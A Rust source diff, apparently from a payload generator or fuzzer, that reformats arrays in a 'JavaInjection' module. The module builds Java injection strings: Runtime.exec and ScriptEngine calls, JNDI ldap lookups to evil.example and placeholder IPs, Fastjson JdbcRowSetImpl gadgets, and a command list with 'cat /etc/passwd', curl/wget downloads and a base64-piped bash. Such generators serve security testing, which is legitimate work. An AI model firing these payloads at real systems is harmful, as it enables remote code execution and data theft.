@@ -11,13 +11,43 @@ use crate::{Carrier, Family, Rng, Variant};
 
 pub struct JavaInjection;
 
-const COMMANDS: &[&str] = &["id", "whoami", "calc", "touch /tmp/pwn", "cat /etc/passwd", "uname -a", "nslookup x.oast.example", "curl http://203.0.113.5/a", "ping -c 1 198.51.100.2", "cmd.exe /c dir", "bash -c {echo,aWQ=}|{base64,-d}|bash", "wget http://evil.example/s", "hostname", "ls -la /", "powershell -c whoami", "sleep 7"];
+const COMMANDS: &[&str] = &[
+    "id",
+    "whoami",
+    "calc",
+    "touch /tmp/pwn",
+    "cat /etc/passwd",
+    "uname -a",
+    "nslookup x.oast.example",
+    "curl http://203.0.113.5/a",
+    "ping -c 1 198.51.100.2",
+    "cmd.exe /c dir",
+    "bash -c {echo,aWQ=}|{base64,-d}|bash",
+    "wget http://evil.example/s",
+    "hostname",
+    "ls -la /",
+    "powershell -c whoami",
+    "sleep 7",
+];
 const CLASSES: &[&str] = &[
-    "java.lang.Runtime", "java.lang.ProcessBuilder", "javax.naming.InitialContext", "javax.script.ScriptEngineManager",
-    "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl", "com.sun.rowset.JdbcRowSetImpl", "java.net.URLClassLoader",
-    "org.springframework.context.support.ClassPathXmlApplicationContext", "java.beans.EventHandler", "javax.management.loading.MLet",
-    "java.lang.ClassLoader", "java.io.FileInputStream", "java.lang.reflect.Method", "sun.misc.Unsafe", "jdk.jshell.JShell",
-    "groovy.lang.GroovyShell", "org.apache.commons.collections.functors.InvokerTransformer", "javax.el.ELProcessor",
+    "java.lang.Runtime",
+    "java.lang.ProcessBuilder",
+    "javax.naming.InitialContext",
+    "javax.script.ScriptEngineManager",
+    "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl",
+    "com.sun.rowset.JdbcRowSetImpl",
+    "java.net.URLClassLoader",
+    "org.springframework.context.support.ClassPathXmlApplicationContext",
+    "java.beans.EventHandler",
+    "javax.management.loading.MLet",
+    "java.lang.ClassLoader",
+    "java.io.FileInputStream",
+    "java.lang.reflect.Method",
+    "sun.misc.Unsafe",
+    "jdk.jshell.JShell",
+    "groovy.lang.GroovyShell",
+    "org.apache.commons.collections.functors.InvokerTransformer",
+    "javax.el.ELProcessor",
 ];
 
 impl Family for JavaInjection {
@@ -41,7 +71,16 @@ impl Family for JavaInjection {
             3..=5 => ognl(rng, q, cmd, &mut names),
             6 | 7 => {
                 names.push("spel-type");
-                let class = *rng.pick(&["java.lang.Runtime", "java.lang.System", "java.lang.Thread", "org.springframework.util.StreamUtils", "java.nio.file.Files", "java.lang.Class", "java.net.InetAddress", "javax.naming.InitialContext"]);
+                let class = *rng.pick(&[
+                    "java.lang.Runtime",
+                    "java.lang.System",
+                    "java.lang.Thread",
+                    "org.springframework.util.StreamUtils",
+                    "java.nio.file.Files",
+                    "java.lang.Class",
+                    "java.net.InetAddress",
+                    "javax.naming.InitialContext",
+                ]);
                 let member = match class {
                     "java.lang.Runtime" => format!("getRuntime().exec({q}{cmd}{q})"),
                     "java.lang.System" => rng.pick(&["getenv()", "getProperty('user.dir')", "exit(0)", "setProperty('a','b')"]).to_string(),
@@ -100,12 +139,20 @@ fn sink(rng: &mut Rng, q: &str, cmd: &str, names: &mut Vec<&'static str>) -> Str
         }
         2 => {
             names.push("forname");
-            let class = *rng.pick(&["java.lang.Runtime", "javax.script.ScriptEngineManager", "java.lang.ProcessBuilder", "javax.naming.InitialContext"]);
+            let class = *rng.pick(&[
+                "java.lang.Runtime",
+                "javax.script.ScriptEngineManager",
+                "java.lang.ProcessBuilder",
+                "javax.naming.InitialContext",
+            ]);
             format!("Class.forName({q}{class}{q}).getMethod({q}getRuntime{q}).invoke(null)")
         }
         3 => {
             names.push("script-engine");
-            format!("new javax.script.ScriptEngineManager().getEngineByName({q}{}{q}).eval({q}java.lang.Runtime.getRuntime().exec('{cmd}'){q})", rng.pick(&["js", "nashorn", "JavaScript", "groovy"]))
+            format!(
+                "new javax.script.ScriptEngineManager().getEngineByName({q}{}{q}).eval({q}java.lang.Runtime.getRuntime().exec('{cmd}'){q})",
+                rng.pick(&["js", "nashorn", "JavaScript", "groovy"])
+            )
         }
         4 => {
             names.push("file-read");
@@ -118,7 +165,10 @@ fn sink(rng: &mut Rng, q: &str, cmd: &str, names: &mut Vec<&'static str>) -> Str
         }
         _ => {
             names.push("jndi-context");
-            format!("new javax.naming.InitialContext().lookup({q}ldap://{}/a{q})", rng.pick(&["203.0.113.8:1389", "evil.example", "x.oast.example"]))
+            format!(
+                "new javax.naming.InitialContext().lookup({q}ldap://{}/a{q})",
+                rng.pick(&["203.0.113.8:1389", "evil.example", "x.oast.example"])
+            )
         }
     }
 }
@@ -193,13 +243,22 @@ fn class_as_data(rng: &mut Rng, names: &mut Vec<&'static str>) -> String {
             if rng.chance(0.5) {
                 format!("<{class}><command><string>{}</string></command></{class}>", rng.pick(&["calc", "id", "touch"]))
             } else {
-                let holder = *rng.pick(&["java.util.PriorityQueue", "java.util.HashMap", "javax.naming.ldap.Rdn_-RdnEntry", "java.util.TreeSet", "sun.rmi.registry.RegistryImpl_Stub"]);
+                let holder = *rng.pick(&[
+                    "java.util.PriorityQueue",
+                    "java.util.HashMap",
+                    "javax.naming.ldap.Rdn_-RdnEntry",
+                    "java.util.TreeSet",
+                    "sun.rmi.registry.RegistryImpl_Stub",
+                ]);
                 format!("<{holder} serialization=\"custom\"><unserializable-parents/><{holder}><default><size>2</size></default>")
             }
         }
         2 => {
             names.push("fastjson-type");
-            format!("{{\"@type\":\"{class}\",\"dataSourceName\":\"ldap://{}/Exploit\",\"autoCommit\":true}}", rng.pick(&["203.0.113.3:1389", "evil.example"]))
+            format!(
+                "{{\"@type\":\"{class}\",\"dataSourceName\":\"ldap://{}/Exploit\",\"autoCommit\":true}}",
+                rng.pick(&["203.0.113.3:1389", "evil.example"])
+            )
         }
         _ => {
             names.push("class-call");
